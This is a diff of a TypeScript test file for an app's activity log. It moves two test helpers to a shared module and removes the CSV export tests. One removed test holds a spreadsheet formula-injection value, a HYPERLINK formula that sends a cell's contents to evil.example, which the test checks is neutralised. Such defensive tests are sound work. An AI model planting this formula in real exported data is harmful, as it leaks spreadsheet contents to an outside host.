@@ -1,15 +1,13 @@
-import { parse } from "csv-parse/sync";
 import { eq } from "drizzle-orm";
 import { beforeAll, beforeEach, describe, expect, test } from "vitest";
 import { type ActivityFilter, emptyFilter, formattedDetails, isDay } from "#app/domain/activity/activity.ts";
-import { activityCsv } from "#app/domain/activity/activity-csv.server.ts";
 import { eventsByDay } from "#app/domain/activity/activity-days.server.ts";
 import { clearActivity, countActivity, listActivity, searchActivity } from "#app/domain/activity/activity-log.server.ts";
-import { csvCell } from "#app/domain/core/csv-cells.ts";
 import type { Member } from "#app/domain/core/member.ts";
 import { operation } from "#app/domain/core/operation.server.ts";
 import { db } from "#db/client.server.ts";
 import { activityLogs, users } from "#db/schema.ts";
+import { log, logMany } from "#tests/support/activity.ts";
 import { actorOf, addMember, temporaryDatabase } from "#tests/support/database.ts";
 import { queryPlans } from "#tests/support/query-plans.ts";
 
@@ -24,18 +22,6 @@ beforeAll(async () => {
 });
 beforeEach(() => void db().delete(activityLogs).run());
 
-type Entry = Partial<typeof activityLogs.$inferInsert>;
-const log = (entry: Entry = {}) =>
-  db()
-    .insert(activityLogs)
-    .values({ action: "test.act", description: "Somebody did something", resource: "other", ...entry })
-    .returning()
-    .get();
-/** Uses one transaction, because each transaction waits for the disk. */
-const logMany = (count: number, entryOf: (n: number) => Entry) =>
-  db().transaction(() => {
-    for (let n = 0; n < count; n++) log(entryOf(n));
-  });
 const search = (filter: Partial<ActivityFilter>, before: number | null = null, limit = 100) =>
   searchActivity({ ...emptyFilter, ...filter }, { before, limit });
 const idsOf = (filter: Partial<ActivityFilter>) => search(filter).entries.map(({ id }) => id);
@@ -215,62 +201,6 @@ describe("events per day", () => {
     expect(days.at(-2)).toEqual({ day: "2026-11-19", successful: 0, failed: 1 });
     expect(days[0]).toEqual({ day: "2026-10-22", successful: 1, failed: 0 });
     expect(days.reduce((sum, { successful, failed }) => sum + successful + failed, 0)).toBe(4);
-  });
-});
-
-describe("the CSV file", () => {
-  const fileOf = async (filter: Partial<ActivityFilter> = {}) => {
-    const parts: string[] = [];
-    for await (const part of activityCsv({ ...emptyFilter, ...filter })) parts.push(part);
-    return parts.join("");
-  };
-
-  test("quotes, commas, and line breaks survive, and each field has a column", async () => {
-    const description = 'Ben "the kiln" Abbott,\r\nsigned in';
-    log({
-      userId: ben.id,
-      description,
-      details: '{"a":"b, \\"c\\""}',
-      resourceId: -3,
-      createdAt: new Date("2026-01-05T20:30:00Z"),
-    });
-    const text = await fileOf();
-    expect(text.startsWith("\ufeffId,") || text.startsWith('\ufeff"Id",')).toBe(true);
-    expect(parse(text, { bom: true, columns: true })).toEqual([
-      {
-        Id: expect.any(String),
-        "Time (UTC)": "2026-01-05T20:30:00.000Z",
-        "Time (Eastern Time)": "2026-01-05 15:30:00",
-        Result: "successful",
-        Description: description,
-        "Error message": "",
-        Resource: "other",
-        "Resource id": "-3",
-        Action: "test.act",
-        "User id": String(ben.id),
-        Name: "Ben Abbott",
-        Email: "ben@kiln.example",
-        "IP address": "",
-        Browser: "",
-        Details: '{"a":"b, \\"c\\""}',
-      },
-    ]);
-  });
-
-  test("text that a spreadsheet program would run as a formula starts with an apostrophe", () => {
-    const attack = '=HYPERLINK("http://evil.example?"&A1,"ok")';
-    expect(csvCell(attack)).toBe(`"'=HYPERLINK(""http://evil.example?""&A1,""ok"")"`);
-    for (const text of ["+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
-      expect(csvCell(text).slice(0, 2), text).toBe(`"'`);
-    expect([csvCell("Anna = Ben"), csvCell(-3), csvCell(null)]).toEqual(['"Anna = Ben"', "-3", ""]);
-  });
-
-  test("follows the filter, newest first, and contains at most 10,000 entries", async () => {
-    logMany(10_100, (n) => ({ resource: n % 100 === 0 ? "auth" : "other", description: `n ${n}` }));
-    const lines = (text: string) => parse(text, { bom: true, columns: true }) as { Description: string }[];
-    const rows = lines(await fileOf());
-    expect([rows.length, rows[0]?.Description, rows.at(-1)?.Description]).toEqual([10_000, "n 10099", "n 100"]);
-    expect(lines(await fileOf({ resource: "auth" }))).toHaveLength(101);
   });
 });
 
